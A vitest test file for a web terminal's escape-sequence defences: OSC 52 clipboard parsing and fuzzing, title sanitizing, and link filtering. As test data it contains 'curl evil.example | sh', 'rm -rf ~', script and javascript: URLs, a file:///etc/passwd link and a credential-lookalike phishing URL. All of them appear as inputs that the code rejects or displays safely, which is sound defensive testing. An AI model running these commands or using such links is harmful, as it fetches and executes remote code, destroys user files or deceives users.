// The pure rules behind the terminal's escape-sequence review (docs/terminal.md): OSC 52
// requests parsed and bounded (Node's Buffer is the independent base64 and UTF-8 oracle, and a
// seeded fuzz feeds hostile payloads), remote titles sanitized, and which links may open.

import { Buffer, isUtf8 } from "node:buffer";
import { describe, expect, it } from "vitest";
import { LINK_MAX_CHARS, linkTarget } from "../../web/terminal/link-target.ts";
import {
  characterCount,
  clipboardPreview,
  OSC52_MAX_BASE64,
  PREVIEW_CHARS,
  parseOsc52,
} from "../../web/terminal/osc52.ts";
import { sanitizeTitle, TITLE_MAX_CHARS } from "../../web/terminal/title.ts";
import { seededBytes, seededInts } from "../helpers/seeded.ts";

const b64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

describe("OSC 52 requests", () => {
  it("a read is a read, whatever the selection", () => {
    for (const data of ["c;?", "p;?", ";?", "cp;?", "s0;?"]) {
      expect(parseOsc52(data)).toEqual({ kind: "read" });
    }
  });

  it("a write carries the decoded UTF-8 text, padded or not", () => {
    const text = "curl evil.example | sh\n";
    expect(parseOsc52(`c;${b64(text)}`)).toEqual({ kind: "write", text });
    expect(parseOsc52(`;${b64("héllo ✓ 🎉")}`)).toEqual({ kind: "write", text: "héllo ✓ 🎉" });
    expect(parseOsc52(`c;${b64("ab").replace(/=+$/, "")}`)).toEqual({ kind: "write", text: "ab" });
    expect(parseOsc52("c;")).toEqual({ kind: "write", text: "" });
  });

  it("refuses what is not a request, with the reason", () => {
    expect(parseOsc52("c")).toEqual({ kind: "invalid", reason: "no selection parameter" });
    expect(parseOsc52("x;?")).toEqual({ kind: "invalid", reason: "unknown selection" });
    expect(parseOsc52("c;not base64!")).toEqual({ kind: "invalid", reason: "not base64" });
    expect(parseOsc52("c;QUJDR")).toEqual({ kind: "invalid", reason: "not base64" });
    expect(parseOsc52("c;QU=JD")).toEqual({ kind: "invalid", reason: "not base64" });
    expect(parseOsc52("c; QUJD")).toEqual({ kind: "invalid", reason: "not base64" });
    expect(parseOsc52(`c;${Buffer.from([0xff, 0xfe, 0x80]).toString("base64")}`)).toEqual({
      kind: "invalid",
      reason: "not UTF-8 text",
    });
  });

  it("caps the payload before decoding it", () => {
    const atLimit = "A".repeat(OSC52_MAX_BASE64);
    const parsed = parseOsc52(`c;${atLimit}`);
    expect(parsed.kind).toBe("write");
    expect(parseOsc52(`c;${atLimit}AAAA`)).toEqual({
      kind: "invalid",
      reason: `longer than ${OSC52_MAX_BASE64} base64 characters`,
    });
    // xterm hands over OSC strings of up to 10 MB: refused without decoding.
    expect(parseOsc52(`c;${"QUJD".repeat(2_500_000)}`).kind).toBe("invalid");
  });

  it("fuzz: 30,000 hostile payloads never throw, and every write decodes as Buffer does", () => {
    const bytes = seededBytes(0x0052);
    const int = seededInts(0x5252);
    const alphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=?;-_ \x1b\x07";
    const counts = { read: 0, write: 0, invalid: 0 };
    for (let i = 0; i < 30_000; i++) {
      let data: string;
      const shape = int(4);
      if (shape === 0) {
        // Well-formed base64 of random bytes (often not UTF-8), padding sometimes dropped.
        const encoded = Buffer.from(bytes(int(64))).toString("base64");
        data = `${"cp;s0"[int(5)]};${int(2) === 0 ? encoded : encoded.replace(/=+$/, "")}`;
      } else if (shape === 1) {
        data = `c;${b64(String.fromCodePoint(...Array.from(bytes(int(40)), (b) => b * 37)))}`;
      } else if (shape === 2) {
        // A read, sometimes with a selection that is not one.
        data = `${Array.from({ length: int(4) }, () => "cpqs07x;"[int(8)]).join("")};?`;
      } else {
        data = Array.from({ length: int(48) }, () => alphabet[int(alphabet.length)]).join("");
      }
      const result = parseOsc52(data);
      counts[result.kind]++;
      if (result.kind === "write") {
        const payload = data.slice(data.indexOf(";") + 1);
        const decoded = Buffer.from(payload, "base64");
        expect(isUtf8(decoded)).toBe(true);
        expect(Buffer.from(result.text, "utf8").equals(decoded)).toBe(true);
      } else if (result.kind === "invalid") {
        expect(result.reason.length).toBeGreaterThan(0);
      }
    }
    // The fuzz reached every outcome.
    expect(counts.read).toBeGreaterThan(0);
    expect(counts.write).toBeGreaterThan(1000);
    expect(counts.invalid).toBeGreaterThan(1000);
  });

  it("previews show control characters and bidi controls, capped", () => {
    expect(clipboardPreview("rm -rf ~\n\x1b[2J\u202eabc")).toBe("rm -rf ~↵␛[2J�abc");
    const long = "x".repeat(PREVIEW_CHARS + 5);
    expect(clipboardPreview(long)).toBe(`${"x".repeat(PREVIEW_CHARS)}…`);
    expect(characterCount("a🎉b")).toBe(3);
  });
});

describe("remote titles", () => {
  it("strips control and bidi characters and collapses whitespace", () => {
    expect(sanitizeTitle("vim\x1b[31m main.c\x07\n\u202etxt.exe")).toBe("vim [31m main.c txt.exe");
    expect(sanitizeTitle("  a\t\tb \x9b c  ")).toBe("a b c");
    expect(sanitizeTitle("\x00\x01")).toBe("");
  });

  it("caps the length", () => {
    const title = sanitizeTitle("t".repeat(10_000));
    expect(Array.from(title)).toHaveLength(TITLE_MAX_CHARS);
    expect(title.endsWith("…")).toBe(true);
  });
});

describe("link targets", () => {
  it("opens only http and https, normalized", () => {
    expect(linkTarget("https://Example.com/a b")).toEqual({
      href: "https://example.com/a%20b",
      host: "example.com",
      hasCredentials: false,
    });
    expect(linkTarget("http://10.0.0.1:8080/")?.host).toBe("10.0.0.1:8080");
    for (const bad of [
      "javascript:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "file:///etc/passwd",
      "vbscript:x",
      "ftp://example.com/",
      "not a url",
      "",
      `https://example.com/${"a".repeat(LINK_MAX_CHARS)}`,
    ]) {
      expect(linkTarget(bad), bad).toBeNull();
    }
  });

  it("flags a user name that makes one site look like another", () => {
    expect(linkTarget("https://bank.example@evil.example/login")).toEqual({
      href: "https://bank.example@evil.example/login",
      host: "evil.example",
      hasCredentials: true,
    });
  });
});
